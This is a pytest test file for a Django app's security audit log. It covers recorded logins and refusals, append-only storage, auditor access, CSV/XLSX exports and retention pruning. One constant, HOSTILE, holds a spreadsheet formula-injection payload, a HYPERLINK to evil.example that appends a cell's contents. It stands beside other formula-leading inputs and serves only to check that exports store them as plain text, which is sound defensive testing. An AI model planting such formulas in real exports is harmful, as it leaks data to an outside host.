"""The security audit log: each event, append-only storage, the auditor's page and exports, retention."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.core.management import CommandError, call_command
from django.db import DatabaseError, connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from jixiao.web.jobs.models import Job
from jixiao.web.jobs.services import job_run
from jixiao.web.organisation.models import ApiToken, Member
from jixiao.web.organisation.services import token_create
from jixiao.web.security.audit import audit_maintenance, audit_record
from jixiao.web.security.events import ACTIONS, DOWNLOAD, LOGIN_FAILED
from jixiao.web.security.models import AppendOnly, AuditEvent
from jixiao.web.sheets.services.sheets import sheet_create
from tests.web.conftest import PASSWORD, small_sheet
from tests.web.security.conftest import events

ADDRESS = "10.1.2.3"


def test_every_action_has_a_chinese_label():
    assert len(ACTIONS) >= 19
    assert all(any("\u4e00" <= ch <= "\u9fff" for ch in action.label) for action in ACTIONS.values())


def test_login_and_logout_are_recorded_with_who_and_where(org):
    client = Client(REMOTE_ADDR=ADDRESS)
    client.post("/login/", {"username": "owner", "password": PASSWORD})
    client.post("/logout/")
    login, = events("login")
    logout, = events("logout")
    assert (login.user, login.username, login.ip, login.result) == (org["owner"], "owner", ADDRESS, "success")
    assert logout.user == org["owner"] and logout.bureau_id == org["bureau"].pk


def test_a_failed_login_of_an_unknown_name_is_recorded_without_a_bureau(org):
    Client(REMOTE_ADDR=ADDRESS).post("/login/", {"username": "nobody", "password": "x"})
    failed, = events("login_failed")
    assert (failed.user, failed.username, failed.ip, failed.bureau, failed.result) == (
        None, "nobody", ADDRESS, None, "failure")


def test_another_units_sheet_is_a_refusal_on_pages_and_the_api(org, login):
    hidden = sheet_create(user=org["outsider"], unit=org["other_unit"], year=2026, content=small_sheet(),
                          source="test")
    assert login(org["owner"]).get(f"/sheets/{hidden.pk}/").status_code == 404
    token = token_create(user=org["reviewer"])
    assert Client().get(f"/api/sheets/{hidden.pk}", HTTP_AUTHORIZATION=f"Bearer {token}").status_code == 404
    assert login(org["owner"]).get("/sheets/99999/").status_code == 404  # nothing there: not a refusal
    page, api = events("access_refused")
    assert (page.user, page.object_id, page.result) == (org["owner"], str(hidden.pk), "refused")
    assert page.details["path"] == f"/sheets/{hidden.pk}/" and page.details["reason"] == "另一单位的目标表"
    assert (api.user, api.object_type, api.details["path"]) == (org["reviewer"], "绩效目标表", f"/api/sheets/{hidden.pk}")


def test_hostile_text_is_stored_without_nul_characters(org, login):
    hidden = sheet_create(user=org["outsider"], unit=org["other_unit"], year=2026, content=small_sheet(),
                          source="test")
    assert login(org["owner"]).get(f"/sheets/{hidden.pk}/export/x%00y/").status_code == 404
    audit_record(LOGIN_FAILED, username="a\x00b", details={"names": ["c\x00d"]})
    refusal, = events("access_refused")
    failed, = events("login_failed")
    assert refusal.details["path"] == f"/sheets/{hidden.pk}/export/x\ufffdy/"
    assert failed.username == "a\ufffdb" and failed.details == {"names": ["c\ufffdd"]}


def test_a_403_is_a_refusal_even_when_the_request_rolled_back(org, login):
    hidden = sheet_create(user=org["outsider"], unit=org["other_unit"], year=2026, content=small_sheet(),
                          source="test")
    assert login(org["owner"]).get("/sheets/dashboard/").status_code == 403
    # The workflow service raises inside its transaction: the refusal is written after the rollback.
    assert login(org["owner"]).post(f"/sheets/{hidden.pk}/transition/approve/").status_code == 403
    dashboard, approve = events("access_refused")
    assert dashboard.details["reason"] == "HTTP 403：GET /sheets/dashboard/"
    assert approve.details["reason"] == f"HTTP 403：POST /sheets/{hidden.pk}/transition/approve/"


def test_downloads_are_recorded(sheet, login, org):
    response = login(org["owner"]).get(f"/sheets/{sheet.pk}/export/xlsx/")
    assert response.status_code == 200
    download, = events("download")
    assert download.user == org["owner"] and download.details["file"] == "乡镇环境治理经费.xlsx"
    assert download.details["format"] == "xlsx" and download.details["bytes"] == len(response.content)


def test_units_people_roles_and_stopping_are_recorded(org, login):
    admin = login(org["admin"])
    admin.post("/people/", {"action": "unit", "unit-code": "434099", "unit-name": "新乡"})
    admin.post("/people/", {"action": "member", "member-username": "newbie", "member-first_name": "王",
                            "member-unit": org["bureau"].pk, "member-role": "reviewer",
                            "member-password1": PASSWORD, "member-password2": PASSWORD})
    newbie = Member.objects.get(user__username="newbie")
    admin.post("/people/", {"action": "role", "member": newbie.pk, "role": "auditor"})
    admin.post("/people/", {"action": "stop", "member": newbie.pk})
    admin.post("/people/", {"action": "restore", "member": newbie.pk})
    unit, = events("unit_created", user=org["admin"])
    created, = events("member_created", user=org["admin"])
    role, = events("role_changed")
    stopped, = events("member_stopped")
    restored, = events("member_restored")
    assert unit.object_repr == "434099 新乡" and created.details == {"role": "审核人", "unit": "B1 甲市财政局"}
    assert role.details == {"old": "审核人", "new": "审计管理员"} and role.object_id == str(newbie.pk)
    assert stopped.user == restored.user == org["admin"] and stopped.object_id == str(newbie.pk)
    assert Member.objects.get(pk=newbie.pk).role == "auditor"


def test_a_role_that_does_not_fit_the_unit_is_refused_and_not_recorded(org, login):
    colleague = Member.objects.get(user=org["colleague"])
    response = login(org["admin"]).post("/people/", {"action": "role", "member": colleague.pk, "role": "reviewer"},
                                        follow=True)
    assert "应属于财政局" in response.content.decode()
    assert Member.objects.get(pk=colleague.pk).role == "preparer" and events("role_changed") == []


def test_bureau_settings_changes_are_recorded_with_old_and_new(org, login):
    reviewer = login(org["reviewer"])
    for period_end in ("2026-06-30", "2026-08-31"):
        reviewer.post("/performance/settings/", {"year": 2026, "profile": "central", "period_end": period_end})
    first, second = events("settings_changed")
    assert first.details["old"] == {} and first.details["new"]["period_end"] == "2026-06-30"
    assert second.details["old"]["period_end"] == "2026-06-30" and second.details["new"]["period_end"] == "2026-08-31"
    assert second.user == org["reviewer"] and second.object_repr == "2026 年监控与评分设置"


def test_tokens_created_and_used_are_recorded_and_last_used_is_set(org, login):
    login(org["owner"]).post("/account/")
    created, = events("token_created")
    record = ApiToken.objects.get(user=org["owner"])
    assert created.object_id == str(record.pk) and record.last_used_at is None
    token = token_create(user=org["owner"], label="脚本")
    for _ in range(3):
        assert Client().get("/api/sheets/", HTTP_AUTHORIZATION=f"Bearer {token}").status_code == 200
    used = ApiToken.objects.get(label="脚本")
    assert used.last_used_at is not None and timezone.now() - used.last_used_at < timedelta(minutes=1)
    assert len(events("token_used")) == 1  # once per hour of use, not once per call
    ApiToken.objects.filter(pk=used.pk).update(last_used_at=timezone.now() - timedelta(hours=2))
    Client().get("/api/sheets/", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert len(events("token_used")) == 2


@pytest.mark.parametrize("minutes_ago, written", [(0, False), (2, True)])
def test_a_token_used_again_is_written_only_in_a_new_minute(org, monkeypatch, minutes_ago, written):
    """The account page shows the minute of the last use: a call in the stored minute takes no write lock."""
    token = token_create(user=org["owner"], label="脚本")
    now = timezone.now().replace(second=30)
    stored = now.replace(second=5) - timedelta(minutes=minutes_ago)
    ApiToken.objects.filter(label="脚本").update(last_used_at=stored)
    monkeypatch.setattr(timezone, "now", lambda: now)
    with CaptureQueriesContext(connection) as queries:
        assert Client().get("/api/sheets/", HTTP_AUTHORIZATION=f"Bearer {token}").status_code == 200
    writes = [q["sql"] for q in queries.captured_queries
              if q["sql"].startswith(("BEGIN", "SAVEPOINT", "UPDATE", "INSERT"))]
    assert any(w.startswith('UPDATE "organisation_apitoken"') for w in writes) == written
    assert bool(writes) == written
    assert ApiToken.objects.get(label="脚本").last_used_at == (now if written else stored)


def test_the_application_cannot_change_or_delete_audit_events(org):
    event = audit_record(LOGIN_FAILED, username="x")
    event.username = "y"
    with pytest.raises(AppendOnly):
        event.save()
    with pytest.raises(AppendOnly):
        event.delete()
    with pytest.raises(AppendOnly):
        AuditEvent.objects.filter(pk=event.pk).update(username="y")
    with pytest.raises(AppendOnly):
        AuditEvent.objects.all().delete()
    assert AuditEvent.objects.get(pk=event.pk).username == "x"


@pytest.mark.skipif(connection.vendor != "postgresql", reason="the trigger is PostgreSQL's")
@pytest.mark.parametrize("statement", ["UPDATE security_auditevent SET username = 'y'", "DELETE FROM security_auditevent"])
def test_on_postgresql_the_database_refuses_changes_too(org, statement):
    audit_record(LOGIN_FAILED, username="x")
    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(statement)
    assert AuditEvent.objects.filter(username="x").count() == 1


@pytest.mark.parametrize(("person", "separate", "status"), [
    ("auditor", False, 200), ("admin", False, 200), ("reviewer", False, 403), ("owner", False, 403),
    ("auditor", True, 200), ("admin", True, 403),
])
def test_who_reads_the_audit_log(org, auditor, login, settings, person, separate, status):
    settings.JIXIAO_SEPARATE_DUTIES = separate
    people = {**org, "auditor": auditor}
    assert login(people[person]).get("/audit/").status_code == status
    started = login(people[person]).post("/jobs/start/audit_log/", {"format": "xlsx"})
    assert started.status_code == (302 if status == 200 else 403)


def test_the_auditor_sees_its_bureau_and_unknown_names_not_another_bureau(org, auditor, login):
    Client().post("/login/", {"username": "owner", "password": "wrong"})
    Client().post("/login/", {"username": "outsider", "password": "wrong"})
    Client().post("/login/", {"username": "ghost", "password": "wrong"})
    page = login(auditor).get("/audit/?action=login_failed").content.decode()
    assert "owner" in page and "ghost" in page and "outsider" not in page
    assert login(auditor).get("/sheets/").context["page"].paginator.count == 0  # an auditor sees no sheets


def test_the_audit_page_filters(org, auditor, login):
    for name in ("owner", "colleague"):
        Client(REMOTE_ADDR=ADDRESS).post("/login/", {"username": name, "password": "wrong"})
    Client().post("/login/", {"username": "owner", "password": PASSWORD})
    client = login(auditor)
    today = timezone.localdate().isoformat()
    assert len(client.get("/audit/?action=login_failed").context["page"]) == 2
    assert [e.username for e in client.get("/audit/?username=colleague").context["page"]] == ["colleague"]
    assert len(client.get(f"/audit/?ip={ADDRESS}&result=failure").context["page"]) == 2
    assert len(client.get(f"/audit/?start={today}&end={today}&action=login&username=owner").context["page"]) == 1
    assert len(client.get("/audit/?start=2000-01-01&end=2000-01-02").context["page"]) == 0
    assert client.get("/audit/?start=nonsense&ip=nonsense&action=nonsense").status_code == 200


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_exports_keep_user_text_as_text(org, auditor, login, exported):
    for name in (HOSTILE, "+1+1", "-2", "@SUM(A1)", "普通用户", "控制\x01字符"):
        Client().post("/login/", {"username": name, "password": "wrong"})
    client = login(auditor)
    download = exported(client, "audit_log", {"action": "login_failed", "format": "xlsx"})
    rows = list(load_workbook(io.BytesIO(download.content)).active.iter_rows())
    assert [c.value for c in rows[0]][:4] == ["时间", "登录名", "地址", "事件"]
    names = {row[1].value: row[1].data_type for row in rows[1:]}
    assert names == {HOSTILE: "s", "+1+1": "s", "-2": "s", "@SUM(A1)": "s", "普通用户": "s", "控制字符": "s"}
    text = exported(client, "audit_log", {"action": "login_failed", "format": "csv"}).content.decode("utf-8-sig")
    written = {row[1] for row in list(csv.reader(io.StringIO(text)))[1:]}
    assert written == {"'" + HOSTILE, "'+1+1", "'-2", "'@SUM(A1)", "普通用户", "控制\x01字符"}
    assert len(events("download", user=auditor)) == 2  # the exports are downloads on the record too


def test_the_export_runs_in_the_background_over_the_filters_of_the_page(org, auditor, login):
    for name in ("alpha", "beta", "alphabet"):
        Client().post("/login/", {"username": name, "password": "wrong"})
    client = login(auditor)
    page = client.get("/audit/?action=login_failed&username=alpha&start=nonsense").content.decode()
    assert 'action="/jobs/start/audit_log/"' in page
    assert '<input type="hidden" name="action" value="login_failed">' in page and 'type="hidden" name="start"' not in page
    started = client.post("/jobs/start/audit_log/", {"action": "login_failed", "username": "alpha", "format": "csv"})
    job = Job.objects.get()
    assert started.url == f"/jobs/{job.pk}/" and job.state == "queued" and not events("download")
    waiting = client.get(started.url).content.decode()
    assert "审计日志导出" in waiting and "登录失败 · 登录名含“alpha” · CSV" in waiting and "hx-trigger" in waiting
    assert job_run(job.pk) == "succeeded"
    job.refresh_from_db()
    assert (job.done, job.total, job.message) == (2, 2, "已导出 2 条审计事件")
    done = client.get(f"/jobs/{job.pk}/progress/").content.decode()
    assert f"/jobs/{job.pk}/download/" in done and "/audit/?action=login_failed&amp;username=alpha" in done
    rows = list(csv.reader(io.StringIO(client.get(f"/jobs/{job.pk}/download/").content.decode("utf-8-sig"))))
    assert sorted(row[1] for row in rows[1:]) == ["alpha", "alphabet"]


def test_an_export_too_large_fails_saying_why_rather_than_cut(org, auditor, login, monkeypatch):
    monkeypatch.setattr("jixiao.web.security.jobs.EXPORT_LIMIT", 1)
    for name in ("a", "b"):
        Client().post("/login/", {"username": name, "password": "wrong"})
    client = login(auditor)
    client.post("/jobs/start/audit_log/", {"action": "login_failed", "format": "xlsx"})
    job = Job.objects.get()
    assert job_run(job.pk) == "failed"
    job.refresh_from_db()
    assert "符合条件的事件有 2 条，超过 1 条，请缩小日期范围" in job.message and job.result is None
    assert client.get(f"/jobs/{job.pk}/download/").status_code == 404
    narrowed = client.post("/jobs/start/audit_log/", {"action": "login_failed", "username": "a", "format": "csv"})
    assert job_run(Job.objects.get(pk=narrowed.url.split("/")[2]).pk) == "succeeded"


def test_an_export_in_an_unknown_format_is_refused(org, auditor, login):
    refused = login(auditor).post("/jobs/start/audit_log/", {"format": "pdf"})
    assert refused.status_code == 400 and "不支持的导出格式" in refused.content.decode() and not Job.objects.exists()


def test_pruning_removes_only_events_past_retention_and_records_itself(org, settings):
    old = audit_record(DOWNLOAD, details={"file": "old"})
    with transaction.atomic(), connection.cursor() as cursor:  # the ORM cannot change an event: age it in SQL
        audit_maintenance(cursor)
        cursor.execute("UPDATE security_auditevent SET at = %s WHERE id = %s",
                       [timezone.now() - timedelta(days=200), old.pk])
    recent = audit_record(DOWNLOAD, details={"file": "recent"})
    settings.JIXIAO_AUDIT_RETENTION_DAYS = 180
    out = io.StringIO()
    call_command("prune_audit", stdout=out)
    assert "已删除 1 条" in out.getvalue()
    assert not AuditEvent.objects.filter(pk=old.pk).exists() and AuditEvent.objects.filter(pk=recent.pk).exists()
    pruned, = events("audit_pruned")
    assert pruned.details["removed"] == 1 and pruned.details["retention_days"] == 180
    call_command("prune_audit", "--days", "0", stdout=io.StringIO())
    assert AuditEvent.objects.filter(pk=recent.pk).exists()
    with pytest.raises(CommandError):
        call_command("prune_audit", "--days", "-1")
